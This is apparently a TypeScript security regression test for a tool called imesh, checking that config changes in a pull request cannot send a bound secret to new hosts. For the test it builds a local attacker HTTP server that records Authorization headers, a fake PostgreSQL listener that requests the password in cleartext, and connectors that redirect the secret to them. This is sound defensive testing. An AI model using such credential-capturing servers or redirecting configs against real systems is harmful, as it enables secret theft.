/**
 * Issue 14, broken 1: a pull request must not be able to send a secret to a host it chooses. The
 * attacks are performed for real: a config change adds a scim connector whose baseUrl is an HTTP server
 * started here (the attacker), and a sql connector whose connectionString points at a fake PostgreSQL
 * listener that asks for the password in clear; `imesh plan`, `imesh check` and `imesh reconcile
 * --dry-run` run as child processes. The trusted paths (first reconcile, a rebinding reconcile,
 * --trust-destinations) are tested too, and the last one shows the attack servers would have caught a
 * leak.
 */
import { spawn } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { cpSync, mkdtempSync, readFileSync, rmSync, unlinkSync, writeFileSync } from 'node:fs';
import { createServer as createHttpServer, type Server as HttpServer } from 'node:http';
import { createServer as createTcpServer, type Server as TcpServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import pg from 'pg';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { loadSecretBindings } from '../../src/engine/secret-bindings.js';
import { openStore } from '../../src/store/open-store.js';
import { configText, connector, flowRule, projection, scimConnector } from '../fixtures/config-yaml.js';

const BIN = resolve('bin/imesh.js');
const SECRET = `AdPw-${randomBytes(12).toString('hex')}`;
const cwd = mkdtempSync(join(tmpdir(), 'imesh-secret-dest-'));
const config = join(cwd, 'config');
const schema = `sd_${process.pid}_${randomBytes(4).toString('hex')}`;
const pgUrl = new URL(inject('pgUrl'));
const pgPort = pgUrl.port || '5432';
const storeUrl = `${pgUrl.href}${pgUrl.search ? '&' : '?'}schema=${schema}_store`;

/**
 * Runs imesh as a child process, asynchronously: the attack servers live in this process and must be
 * able to answer while the child runs (a synchronous spawn would block them and prove nothing).
 */
function imesh(...args: string[]): Promise<{ status: number | null; stdout: string; stderr: string }> {
  return new Promise((done, fail) => {
    const child = spawn(process.execPath, [BIN, ...args], {
      cwd,
      env: { ...process.env, IMESH_LOG_LEVEL: 'error', IMESH_SECRET_AD_PASSWORD: SECRET, IMESH_STORE_URL: storeUrl },
    });
    let stdout = '';
    let stderr = '';
    child.stdout.setEncoding('utf8').on('data', (chunk: string) => (stdout += chunk));
    child.stderr.setEncoding('utf8').on('data', (chunk: string) => (stderr += chunk));
    child.on('error', fail);
    child.on('close', (status) => {
      // Whatever happens, the secret's value never reaches the output.
      expect(stdout + stderr).not.toContain(SECRET);
      done({ status, stdout, stderr });
    });
  });
}

async function sql(text: string): Promise<void> {
  const client = new pg.Client({ connectionString: pgUrl.href });
  await client.connect();
  try {
    await client.query(text);
  } finally {
    await client.end();
  }
}

async function bindings(): Promise<{ secret: string; destination: string; connector: string }[]> {
  const db = await openStore({ url: storeUrl, workDir: cwd });
  try {
    return (await loadSecretBindings(db)).map(({ secret, destination, connector }) => ({ secret, destination, connector }));
  } finally {
    await db.close();
  }
}

/** The legitimate connector that binds ad-password: a PostgreSQL source on the test server. */
function hrDb(host: string): string {
  return configText(
    connector('hr-db', 'sql', {
      connection: { driver: 'postgres', connectionString: `postgres://${decodeURIComponent(pgUrl.username)}:{{secret:ad-password}}@${host}:${pgPort}${pgUrl.pathname}` },
      objectTypes: { person: { table: `${schema}.people`, externalIdColumn: 'employee_id' } },
    }),
    titleFrom('hrdb-to-person', 'hr-db/person', { employee_id: 'employeeId' }, 10),
  );
}

/** A flow rule that only contributes `title` (at a low confidence): enough to make its connector used. */
function titleFrom(name: string, source: string, join: Record<string, string>, confidence: number): string {
  return flowRule(name, { source, join, attributes: { title: ['title', confidence] } });
}

// ---- the attacker's side -------------------------------------------------------------------------

interface SeenRequest {
  readonly url: string;
  readonly authorization?: string;
}
const seen: SeenRequest[] = [];
let attacker: HttpServer;
let attackerPort = 0;
const pgBytes: Buffer[] = [];
let fakePg: TcpServer;
let fakePgPort = 0;

/** A PostgreSQL look-alike: answers the startup message with "send me your password in clear". */
function startFakePostgres(): Promise<void> {
  fakePg = createTcpServer((socket) => {
    let asked = false;
    socket.on('data', (chunk) => {
      pgBytes.push(chunk);
      if (!asked) {
        asked = true;
        const request = Buffer.alloc(9);
        request.write('R', 0);
        request.writeInt32BE(8, 1);
        request.writeInt32BE(3, 5); // AuthenticationCleartextPassword
        socket.write(request);
      } else socket.destroy();
    });
    socket.on('error', () => undefined);
  });
  return new Promise((done) => fakePg.listen(0, '127.0.0.1', () => ((fakePgPort = (fakePg.address() as { port: number }).port), done())));
}

function attackerConnector(): string {
  return configText(
    scimConnector('wiki-app', `http://127.0.0.1:${attackerPort}/scim/v2`, 'ad-password', { user: { resource: 'User' } }),
    projection('person-to-wiki', {
      target: 'wiki-app/user',
      before: { join: [{ target: 'userName', mesh: 'email' }] },
      attributes: { userName: '{{email}}', displayName: '{{displayName}}' },
      after: { onRemove: 'delete' },
    }),
    titleFrom('wiki-to-person', 'wiki-app/user', { userName: 'email' }, 5),
  );
}

function exfilConnector(): string {
  return configText(
    connector('payroll-db', 'sql', {
      connection: { driver: 'postgres', connectionString: `postgres://payroll:{{secret:ad-password}}@127.0.0.1:${fakePgPort}/payroll`, connectTimeoutSeconds: 5 },
      objectTypes: { person: { table: 'payroll.people', externalIdColumn: 'employee_id' } },
    }),
    titleFrom('payroll-to-person', 'payroll-db/person', { employee_id: 'employeeId' }, 5),
  );
}

interface PlanJson {
  projections: { name: string; deletes: number }[];
  skipped: { connector: string; reason: string; flowRules?: string[]; projections?: string[] }[];
}

beforeAll(async () => {
  // The quickstart without its embedded "apps" database (one PGlite start less per run on a busy machine).
  cpSync(resolve('samples/quickstart'), config, { recursive: true });
  for (const [file, name] of [['connectors.yaml', 'apps'], ['projections.yaml', 'person-to-apps']] as const) {
    const path = join(config, file);
    const docs = readFileSync(path, 'utf8').split(/^---$/m);
    writeFileSync(path, docs.filter((doc) => !doc.includes(`metadata: { name: ${name} }`)).join('---'));
  }
  await sql(`CREATE SCHEMA ${schema}; CREATE TABLE ${schema}.people (employee_id text PRIMARY KEY, title text); INSERT INTO ${schema}.people VALUES ('E1001', 'Engineer')`);
  writeFileSync(join(config, 'hr-db.yaml'), hrDb(pgUrl.hostname));
  attacker = createHttpServer((req, res) => {
    seen.push({ url: req.url ?? '', ...(req.headers.authorization ? { authorization: req.headers.authorization } : {}) });
    res.writeHead(401, { 'content-type': 'application/json' }).end('{"detail":"no"}');
  });
  await new Promise<void>((done) => attacker.listen(0, '127.0.0.1', () => ((attackerPort = (attacker.address() as { port: number }).port), done())));
  await startFakePostgres();
});

afterAll(async () => {
  attacker?.close();
  fakePg?.close();
  await sql(`DROP SCHEMA IF EXISTS ${schema} CASCADE; DROP SCHEMA IF EXISTS ${schema}_store CASCADE`).catch(() => undefined);
  rmSync(cwd, { recursive: true, force: true });
});

// Child processes on a shared, loaded machine: generous per-test limits (no timing is asserted).
describe('secrets go only where a trusted run has sent them', { timeout: 600_000 }, () => {
  it('the first reconcile on an empty store binds what it is given, and records no value', async () => {
    const first = await imesh('reconcile', '--config', config);
    expect(first.status, first.stdout + first.stderr).toBe(0);
    expect(await bindings()).toEqual([{ secret: 'ad-password', destination: `postgres://${pgUrl.hostname}:${pgPort}${pgUrl.pathname}`, connector: 'hr-db' }]);
  });

  it('an unchanged config keeps working: plan and check contact the bound connector', async () => {
    const plan = await imesh('plan', '--config', config, '--format', 'json', '--detailed-exitcode');
    expect(plan.status, plan.stderr).toBe(0);
    expect((JSON.parse(plan.stdout) as PlanJson).skipped).toEqual([]);
    const check = await imesh('check', '--config', config);
    expect(check.status, check.stdout + check.stderr).toBe(0);
    expect(check.stdout).toMatch(/^ok {3}hr-db \(sql\)/m);
    expect(check.stdout).not.toContain('SKIP');
  });

  it('a pull request adding a scim connector that points a bound secret at its own host: plan, check and reconcile --dry-run never contact it', async () => {
    writeFileSync(join(config, 'attacker.yaml'), attackerConnector());
    const origin = `http://127.0.0.1:${attackerPort}`;

    const json = await imesh('plan', '--config', config, '--format', 'json', '--detailed-exitcode');
    expect(json.status, json.stderr).toBe(0); // what it would otherwise be: nothing else changes
    const report = JSON.parse(json.stdout) as PlanJson;
    expect(report.skipped).toEqual([
      { connector: 'wiki-app', reason: expect.stringContaining(`secret ad-password would be sent to ${origin}`), flowRules: ['wiki-to-person'], projections: ['person-to-wiki'] },
    ]);
    expect(report.projections.map((p) => p.name)).not.toContain('person-to-wiki');
    expect(json.stderr).toContain(`NOT CONTACTED: wiki-app: secret ad-password would be sent to ${origin}`);

    const text = await imesh('plan', '--config', config);
    expect(text.status).toBe(0);
    expect(text.stdout).toContain('Not contacted (1):');
    expect(text.stdout).toMatch(new RegExp(`wiki-app: secret ad-password would be sent to ${origin}`));
    expect(text.stdout).toContain('not planned: projection person-to-wiki');

    const markdown = await imesh('plan', '--config', config, '--format', 'markdown');
    expect(markdown.status).toBe(0);
    expect(markdown.stdout).toContain('### Not contacted');
    expect(markdown.stdout).toContain('**wiki-app**');

    const check = await imesh('check', '--config', config);
    expect(check.status, check.stdout).toBe(0); // the legitimate connectors are fine; a skip is not a failure
    expect(check.stdout).toMatch(new RegExp(`^SKIP wiki-app \\(scim\\) not contacted: secret ad-password would be sent to ${origin}`, 'm'));
    const checkJson = await imesh('check', '--config', config, '--format', 'json');
    expect(JSON.parse(checkJson.stdout).skipped).toEqual([{ connector: 'wiki-app', reason: expect.stringContaining(origin) }]);

    const dryRun = await imesh('reconcile', '--config', config, '--dry-run');
    expect(dryRun.status).toBe(0);
    expect(dryRun.stdout).toContain('Not contacted (1):');

    expect(seen).toEqual([]); // the attacker's server received no request at all
  });

  it('a pull request pointing a sql connector at a fake PostgreSQL server: the password never arrives', async () => {
    unlinkSync(join(config, 'attacker.yaml'));
    writeFileSync(join(config, 'exfil.yaml'), exfilConnector());
    const plan = await imesh('plan', '--config', config, '--format', 'json', '--detailed-exitcode');
    expect(plan.status, plan.stderr).toBe(0);
    expect((JSON.parse(plan.stdout) as PlanJson).skipped).toEqual([
      { connector: 'payroll-db', reason: expect.stringContaining(`would be sent to postgres://127.0.0.1:${fakePgPort}/payroll`), flowRules: ['payroll-to-person'], projections: [] },
    ]);
    const check = await imesh('check', '--config', config, '--store', storeUrl, 'payroll-db');
    expect(check.status).toBe(0);
    expect(check.stdout).toContain('SKIP payroll-db (sql) not contacted');
    const dryRun = await imesh('reconcile', '--config', config, '--dry-run');
    expect(dryRun.status).toBe(0);
    expect(Buffer.concat(pgBytes).length).toBe(0); // not even a connection
  });

  it('a changed destination is not contacted by plan; a trusted reconcile rebinds it and records the new destination', async () => {
    unlinkSync(join(config, 'exfil.yaml'));
    writeFileSync(join(config, 'hr-db.yaml'), hrDb('localhost'));
    const plan = await imesh('plan', '--config', config, '--format', 'json');
    expect(plan.status).toBe(0);
    expect((JSON.parse(plan.stdout) as PlanJson).skipped).toEqual([
      expect.objectContaining({ connector: 'hr-db', reason: expect.stringContaining(`would be sent to postgres://localhost:${pgPort}${pgUrl.pathname}`) }),
    ]);

    const reconcile = await imesh('reconcile', '--config', config);
    expect(reconcile.status, reconcile.stdout + reconcile.stderr).toBe(0);
    expect(await bindings()).toEqual([
      { secret: 'ad-password', destination: `postgres://${pgUrl.hostname}:${pgPort}${pgUrl.pathname}`, connector: 'hr-db' },
      { secret: 'ad-password', destination: `postgres://localhost:${pgPort}${pgUrl.pathname}`, connector: 'hr-db' },
    ].sort((a, b) => a.destination.localeCompare(b.destination)));
    const after = await imesh('plan', '--config', config, '--format', 'json');
    expect((JSON.parse(after.stdout) as PlanJson).skipped).toEqual([]);
  });

  it('--trust-destinations binds from plan and check: then the secret does go there (so only trusted contexts may use it)', async () => {
    writeFileSync(join(config, 'attacker.yaml'), attackerConnector());
    writeFileSync(join(config, 'exfil.yaml'), exfilConnector());
    await imesh('plan', '--config', config, '--trust-destinations');
    // The attack servers do catch a secret sent to them: what the tests above rule out.
    expect(seen.some((r) => r.authorization === `Bearer ${SECRET}`)).toBe(true);
    expect(Buffer.concat(pgBytes).includes(Buffer.from(SECRET))).toBe(true);
    expect(await bindings()).toEqual(
      expect.arrayContaining([
        { secret: 'ad-password', destination: `http://127.0.0.1:${attackerPort}`, connector: 'wiki-app' },
        { secret: 'ad-password', destination: `postgres://127.0.0.1:${fakePgPort}/payroll`, connector: 'payroll-db' },
      ]),
    );
    const plan = await imesh('plan', '--config', config, '--format', 'json');
    expect((JSON.parse(plan.stdout || '{"skipped":[]}') as PlanJson).skipped).toEqual([]);

    const checkTrust = await imesh('check', '--config', config, '--trust-destinations', 'hr-db');
    expect(checkTrust.status).toBe(0);
    const usage = await imesh('reconcile', '--config', config, '--trust-destinations');
    expect(usage.status).toBe(1);
    expect(usage.stderr).toContain('--trust-destinations goes with --dry-run');
  });
});

